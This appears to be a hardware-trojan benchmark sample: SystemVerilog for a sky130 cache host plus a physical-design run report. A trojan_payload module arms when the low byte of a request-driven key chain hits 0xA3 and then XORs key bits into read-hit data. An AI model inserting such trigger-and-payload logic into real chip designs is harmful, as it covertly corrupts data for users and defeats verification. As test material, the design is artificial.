<file path="config.mk">
export PLATFORM = sky130hd
export DESIGN_NAME = cache_top
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/hw/cache_pkg.sv /design/src/hw/cache_lookup.sv /design/src/hw/trojan_payload.sv /design/src/hw/cache_host.sv /design/src/hw/cache_top.sv
export VERILOG_INCLUDE_DIRS = /design/src /design/src/hw
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export ABC_AREA = 1
export ABC_CLOCK_PERIOD_IN_PS = 5300
export BUFFER_PORTS_ARGS = -buffer_cell sky130_fd_sc_hd__buf_2
export CAP_MARGIN = 5
export CORE_MARGIN = 2
export CORE_UTILIZATION = 53
export CTS_BUF_LIST = sky130_fd_sc_hd__clkbuf_16
export CTS_CLUSTER_SIZE = 25
export DETAILED_ROUTE_END_ITERATION = 8
export PLACE_DENSITY = 0.72
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
</file>
<file path="constraint.sdc">
create_clock -name clk -period 5.3 [get_ports clk]
set_input_delay 1.06 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 1.06 -clock clk [all_outputs]
set_load 0.005 [all_outputs]
</file>
<file path="src/hw/cache_defines.svh">
// Sizes are fixed here and shared by every RTL file; lines must stay a power of two
// The key seed must not carry the trigger value in its low byte
`ifndef CACHE_DEFINES_SVH
`define CACHE_DEFINES_SVH

// Cache geometry
`define CACHE_LINES 8
`define DATA_W      16
`define TAG_W       4
`define INDEX_W     6     // Indices at or above CACHE_LINES are out of range

// Key chain and payload widths
`define KEY_W       128
`define LOAD_W      64

// Seed loaded into the key chain on reset
// Several bytes share the trigger's upper five bits so the chain can reach it
`define KEY_INIT    128'hA15E_A63C_96A4_0F78_D2A7_6E19_87A2_3CB4

// Key low byte that arms the payload
`define TROJAN_TRIGGER 8'hA3

`endif

</file>
<file path="src/hw/cache_pkg.sv">
// Shared types of the cache host; widths come from the defines header
// Struct fields are packed MSB first in the order listed

`include "cache_defines.svh"

package cache_pkg;

    // Widths with a meaning
    typedef logic [`DATA_W-1:0]  data_t;
    typedef logic [`TAG_W-1:0]   tag_t;
    typedef logic [`INDEX_W-1:0] index_t;
    typedef logic [`KEY_W-1:0]   key_t;
    typedef logic [`LOAD_W-1:0]  load_t;

    typedef enum logic {
        OP_READ  = 1'b0,
        OP_WRITE = 1'b1
    } cache_op_e;

    // Handshake FSM of the host
    typedef enum logic [1:0] {
        IDLE      = 2'd0,
        ACCESS    = 2'd1,
        RESPOND   = 2'd2,
        WAIT_DROP = 2'd3
    } host_state_e;

    typedef struct packed {
        cache_op_e op;
        tag_t      tag;
        index_t    index;
        data_t     wdata;     // Ignored on reads
    } cache_req_t;

    typedef struct packed {
        data_t rdata;
        logic  hit;
    } cache_rsp_t;

endpackage

</file>
<file path="src/hw/cache_lookup.sv">
// Direct-mapped line store; out-of-range indices miss and never write
// Only valid bits are reset, data and tags keep old contents
`timescale 1ns/1ns

`include "cache_defines.svh"

module cache_lookup (
    input  logic              clk,
    input  logic              rst,
    input  cache_pkg::index_t index,
    input  cache_pkg::tag_t   tag,
    input  logic              wr_en,
    input  cache_pkg::data_t  wr_data,
    output logic              hit,
    output cache_pkg::data_t  line_data
);

    localparam int LINE_BITS = $clog2(`CACHE_LINES);

    cache_pkg::data_t        data_mem [`CACHE_LINES];
    cache_pkg::tag_t         tag_mem  [`CACHE_LINES];
    logic [`CACHE_LINES-1:0] valid;

    logic                 in_range;
    logic [LINE_BITS-1:0] line_sel;

    // Range check on the full index, line select from its low bits
    assign in_range = (index < `INDEX_W'(`CACHE_LINES));
    assign line_sel = index[LINE_BITS-1:0];

    // Combinational tag compare
    assign hit       = in_range && valid[line_sel] && (tag_mem[line_sel] == tag);
    assign line_data = data_mem[line_sel];     // Only meaningful on a hit

    // Data and tag storage
    always_ff @(posedge clk) begin
        if (wr_en && in_range) begin
            data_mem[line_sel] <= wr_data;
            tag_mem[line_sel]  <= tag;
        end
    end

    // Valid bits, cleared by reset
    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            valid <= '0;
        end else if (wr_en && in_range) begin
            valid[line_sel] <= 1'b1;
        end
    end

endmodule

</file>
<file path="src/hw/trojan_payload.sv">
// Arms once the key low byte matches the trigger and stays armed until reset
// Load is zero while disarmed
`timescale 1ns/1ns

`include "cache_defines.svh"

module trojan_payload (
    input  logic             clk,
    input  logic             rst,
    input  cache_pkg::key_t  key,
    output cache_pkg::load_t load
);

    localparam int HALF_W = `KEY_W / 2;

    logic trigger_hit;
    logic active;

    // Watch the low byte of the key chain
    assign trigger_hit = (key[7:0] == `TROJAN_TRIGGER);

    // Sticky active flag
    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            active <= 1'b0;
        end else if (trigger_hit) begin
            active <= 1'b1;
        end
    end

    // Fold the key halves into the load
    always_comb begin
        if (active) begin
            load = key[HALF_W-1:0] ^ key[`KEY_W-1:HALF_W];
        end else begin
            load = '0;
        end
    end

endmodule

</file>
<file path="src/hw/cache_host.sv">
// One request in flight over a four-phase req/ack handshake
// Ack rises two edges after acceptance and falls on the first edge with req low
`timescale 1ns/1ns

`include "cache_defines.svh"

module cache_host (
    input  logic                  clk,
    input  logic                  rst,
    input  logic                  req,
    input  cache_pkg::cache_req_t req_data,
    output logic                  ack,
    output cache_pkg::cache_rsp_t rsp_data
);

    cache_pkg::host_state_e state;
    cache_pkg::cache_req_t  req_q;      // Request held from acceptance
    cache_pkg::key_t        key;
    cache_pkg::load_t       load;

    logic             accept;
    logic             wr_en;
    logic             hit;
    cache_pkg::data_t line_data;

    assign accept = (state == cache_pkg::IDLE) && req;

    // Array write happens on the ACCESS edge
    assign wr_en = (state == cache_pkg::ACCESS) && (req_q.op == cache_pkg::OP_WRITE);

    // Request capture
    always_ff @(posedge clk) begin
        if (accept) begin
            req_q <= req_data;
        end
    end

    // Key chain, shifted one byte per accepted request
    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            key <= `KEY_INIT;
        end else if (accept) begin
            key <= {key[`KEY_W-9:0], key[`KEY_W-1 -: 8] ^ 8'(req_data.index)};
        end
    end

    // Handshake FSM
    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            state    <= cache_pkg::IDLE;
            ack      <= 1'b0;
            rsp_data <= '0;
        end else begin
            case (state)
                cache_pkg::IDLE: begin
                    if (req) begin
                        state <= cache_pkg::ACCESS;
                    end
                end
                cache_pkg::ACCESS: begin
                    // Read hit picks up whatever load the payload drives now
                    if (req_q.op == cache_pkg::OP_READ && hit) begin
                        rsp_data.rdata <= line_data ^ load[`DATA_W-1:0];
                        rsp_data.hit   <= 1'b1;
                    end else begin
                        rsp_data <= '0;             // Misses and writes
                    end
                    state <= cache_pkg::RESPOND;
                end
                cache_pkg::RESPOND: begin
                    ack   <= 1'b1;
                    state <= cache_pkg::WAIT_DROP;
                end
                cache_pkg::WAIT_DROP: begin
                    if (!req) begin               // Requester released
                        ack   <= 1'b0;
                        state <= cache_pkg::IDLE;
                    end
                end
                default: begin
                    state <= cache_pkg::IDLE;
                end
            endcase
        end
    end

    cache_lookup u_lookup (
        .clk       (clk),
        .rst       (rst),
        .index     (req_q.index),
        .tag       (req_q.tag),
        .wr_en     (wr_en),
        .wr_data   (req_q.wdata),
        .hit       (hit),
        .line_data (line_data)
    );

    trojan_payload u_payload (
        .clk  (clk),
        .rst  (rst),
        .key  (key),
        .load (load)
    );

endmodule

</file>
<file path="src/hw/cache_top.sv">
// Top level of the cache host, no added latency
`timescale 1ns/1ns

module cache_top (
    input  logic                  clk,
    input  logic                  rst,
    input  logic                  req,
    input  cache_pkg::cache_req_t req_data,
    output logic                  ack,
    output cache_pkg::cache_rsp_t rsp_data
);

    // Requester side straight to the host
    cache_host u_host (
        .clk      (clk),
        .rst      (rst),
        .req      (req),
        .req_data (req_data),
        .ack      (ack),
        .rsp_data (rsp_data)
    );

endmodule

</file>
==> run summary <==
The flow ran to the end, and the final reports show no timing, DRC or antenna violations. The number of H-tree levels was 2. In this run the most critical hold path is launched from u_host.u_lookup.valid[6]. The pre-antenna-repair detailed-routing pass consisted of 5 iterations. The primary flip-flop cell chosen by synthesis mapping is sky130_fd_sc_hd__edfxtp_1. The final net count was 1463. The slowest stage of the critical path is the sky130_fd_sc_hd__nor2_2 cell. The share of final-layout standard cells stronger than drive strength 1 is 0.130. The tools report the max capacitance violation total as 0. Summing every instance area after synthesis gives 14300 sq um. The critical path endpoint category is a flop.

The longest clock path from root to sink contains 3 buffers. Data arrives at the worst endpoint at 3.61 ns. The floorplan step set the die height to 168 um. Setup repair after global routing left no endpoint under its margin. The number of top-level pins came out at 48. The setup-violating endpoint count in the final report was 0.

The tools report the total die area as 28300 sq um. The worst max-slew margin expressed relative to the limit came out at 0.225. At the pin with the least slew margin, the transition time is 1.16 ns. For the distinct cell type count of the synthesized netlist, the log shows 31.

The initial core utilization is 0.534. The clock arrives with 0.0126 ns of skew. The data required time at the worst endpoint is 5.43 ns. The most critical setup path has its startpoint at u_host.state[1]. The path type of the worst setup path is reg -> reg. The clock net in this run drives a total of 347 sinks. The tools report the cell at the root of the clock tree as sky130_fd_sc_hd__clkbuf_16.

In this run, the number of DRC markers left after iteration 0 of detailed routing was 824. For the wire length of the first global-routing pass, the log shows 47.1 mm. The signal on the critical path passes through inv_1, ha_1, clkinv_1, nor4_1, nand2_1, nor2_2.

The number of buffer cells added on primary ports is 47. The number of hold violations in the final report was 0; the net count after synthesis was 1432. For this run the aggregate overflow at the end of global routing stands at 0. The tools report the final estimated routing congestion in global placement as 0.844.

The tools report the number of buffers inserted to repair setup after CTS as 0. The core footprint is 26700 sq um. The min-delay analysis places its worst path in the category reg -> reg.

Width of the die: 168 um. The post-synthesis to final-layout area growth came out at 10.7%. The number of antenna violations at the first check in global routing came out at 0. The count of flip-flops with a built-in enable after synthesis works out to 187. The via count of the first global-routing pass is 9076. The number of cells in the design after placement came out at 1731. Clock-pin slew was measured on the worst setup and hold paths at 0.06 ns. The largest fanout on the critical path is 20. After floorplanning, the core was divided into 60 placement rows. Final-layout setup total negative slack: 0 ns. During synthesis, Yosys emitted a total of 0 warnings.

The number of hold buffers added after CTS was 0. The cell count after synthesis is 1397, and the detailed-placement wirelength estimate is 17.8 mm. The minimum clock period was 3.49 ns. Kind of launch point of the worst setup path: a flop. The average via count per standard cell is 5.20, and the via count is 9349.

The number of antenna diodes in the final layout is 0. The analysis attributes to cell leakage a power of 6.85 nW. The run gives 28.7 mm as the total wirelength of the detailed-routed design. The register bit count reported by yosys was 347; the mean cell area of the mapped netlist was 10.2 sq um.

The power per cell area was 507 nW/um^2; the worst ir drop on vdd was 0.316 mV. The later-pin clock latency in the skew report is 0.51 ns. TritonCTS built the clock tree. In this design, the stage delay of the slowest critical-path cell is 0.96 ns.

The TritonCTS buffer count was 36; the largest net degree at the start of global routing was 103. The tools report the number of antenna-violating nets in the routed design as 0. The worst register-to-register path begins at u_host.state[1]. The post-synthesis sequential area ratio is 0.678, and the number of remaining DRC errors is 0. In the final routed layout, each cell accounts on average for 15.9 um. Post-CTS repair changed the size of 0 cells. Timing would allow up to 287 MHz. The tools report the number of max-slew violations in the final report as 0.

The run gives 1797 as the final standard cell count with taps included and fillers excluded. The share of the clock period used by the worst path was 0.658. The share of synthesized flip-flops with an asynchronous set or reset was 0.452. The run gives 0.210 as the total global-route track usage.
-- routing by layer --
layer	vias up	wire, um	GRT usage
met3	54	1620	0.0315
met1	4462	12700	0.296
li1	4550	-	-
met5	-	0	0
met4	0	887	0.0783
met2	283	13400	0.337
-- Yosys cell counts (2+ instances only) --
master	instances	area, sq um
sky130_fd_sc_hd__nor2_1	96	360
sky130_fd_sc_hd__inv_1	156	586
sky130_fd_sc_hd__buf_2	22	110
sky130_fd_sc_hd__nand2_1	440	1650
sky130_fd_sc_hd__nand3_1	66	330
sky130_fd_sc_hd__xnor2_1	8	70.1
sky130_fd_sc_hd__dfxtp_1	3	60.1
sky130_fd_sc_hd__buf_6	5	56.3
sky130_fd_sc_hd__dfrtp_1	94	2350
sky130_fd_sc_hd__nand3b_1	10	75.1
sky130_fd_sc_hd__xor2_1	10	87.6
sky130_fd_sc_hd__edfxtp_1	187	5620
sky130_fd_sc_hd__clkbuf_1	27	101
sky130_fd_sc_hd__buf_1	4	15.0
sky130_fd_sc_hd__dfstp_2	63	1660
sky130_fd_sc_hd__inv_2	2	7.51
sky130_fd_sc_hd__nand3_2	4	40.0
sky130_fd_sc_hd__ha_1	5	62.6
sky130_fd_sc_hd__buf_4	4	30.0
sky130_fd_sc_hd__nand4_1	17	106
sky130_fd_sc_hd__nor3_1	4	20.0
sky130_fd_sc_hd__o21ai_0	152	761
sky130_fd_sc_hd__nand2_2	7	43.8
sky130_fd_sc_hd__a21oi_1	4	20.0
-- flip-flops by register name, indices dropped and copies added, names as in the netlist, named ones only --
signal	cells
u_host.key	128
u_host.u_lookup.data_mem	128
u_host.u_lookup.tag_mem	32
u_host.req_q	27
u_host.rsp_data	17
u_host.u_lookup.valid	8
u_host.state	2
u_host.ack	1
u_host.u_payload.active	1
-- cell families after synthesis --
logic type               share of synthesized area
AO/OA/AOI/OAI                               0.0553
buffers and inverters                       0.0643
XOR/XNOR                                    0.0110
adder cells (fa/ha/maj)                    0.00438
AND/OR/NAND/NOR                              0.187
flip-flops                                   0.678
-- final timing paths --
kind                                             endpoint  slack [ns]  cells after the start
setup / recovery           u_host.u_lookup.data_mem[5][6]        1.81                      6
hold / removal                   u_host.u_lookup.valid[6]        0.46                      2
setup reg to reg           u_host.u_lookup.data_mem[5][6]        1.81                      6
hold reg to reg                  u_host.u_lookup.valid[6]        0.46                      2
max in group asynchronous                  u_host.key[46]        3.58                      3
min in group asynchronous                 u_host.key[107]        0.67                      2
-- stage by stage --
| stage | setup slack, ns | instance area, sq um | util | hold WS, ns | total power, mW |
|---|---|---|---|---|---|
| global route | 1.47 | 15800 | 0.592 | 0.492 | 8.53 |
| global placement | 1.94 | 14700 | 0.551 | 0.440 | 5.68 |
| finish | 1.81 | 15800 | 0.592 | 0.464 | 8.02 |
| detailed placement | 1.86 | 14700 | 0.551 | 0.452 | 5.75 |
| floorplan | 0.109 | 14300 | - | 0.427 | 5.24 |
| CTS | 1.84 | 15800 | 0.592 | 0.466 | 8.08 |
-- cells in the final DEF (no fill, tap or decap), types with 7 or more instances in the layout --
master,n
sky130_fd_sc_hd__nand2_1,439
sky130_fd_sc_hd__edfxtp_1,187
sky130_fd_sc_hd__inv_1,171
sky130_fd_sc_hd__o21ai_0,152
sky130_fd_sc_hd__dfrtp_1,94
sky130_fd_sc_hd__nor2_1,88
sky130_fd_sc_hd__nand3_1,66
sky130_fd_sc_hd__dfstp_2,63
sky130_fd_sc_hd__buf_2,47
sky130_fd_sc_hd__clkbuf_16,37
sky130_fd_sc_hd__nand4_1,17
sky130_fd_sc_hd__nand3b_1,10
sky130_fd_sc_hd__xor2_1,10
sky130_fd_sc_hd__xnor2_1,8
sky130_fd_sc_hd__nor2_2,8
sky130_fd_sc_hd__buf_4,8
sky130_fd_sc_hd__clkinv_1,7
sky130_fd_sc_hd__nand2_2,7
-- where the power goes --
part	switching [mW]	total, mW	internal, mW
combinational	1.27	1.82	0.549
clock	0.993	2.31	1.31
sequential	0.363	3.89	3.53
total	2.63	8.02	5.39
-- critical path, delay by kind of cell (launching register included) --
family,cells,cell delay (ns)
simple gates,3,1.87
buf+inv,2,0.61
fa+ha+maj,1,0.20
flops,1,0.40
-- area by class of cell --
type                    count  area, sq um
fillers                  2181        10900
clock buffers              37          926
flip-flops and latches    347         9680
well taps                 341          427
clock inverters            29          156
repair buffers             55          295
multi-input cells         828         3710
inverters                 160          613
Power figures use the tool's default switching activity.
